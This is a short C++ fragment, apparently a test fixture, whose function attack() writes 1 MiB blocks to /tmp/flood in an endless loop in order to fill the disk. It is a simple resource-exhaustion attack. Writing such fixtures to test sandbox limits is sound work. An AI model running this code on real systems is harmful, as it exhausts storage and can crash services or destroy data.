#include <fstream>
#include <string>

static void attack() {
  std::ofstream file("/tmp/flood");
  for (const std::string text(1 << 20, 'x');;) file << text << std::flush;
}
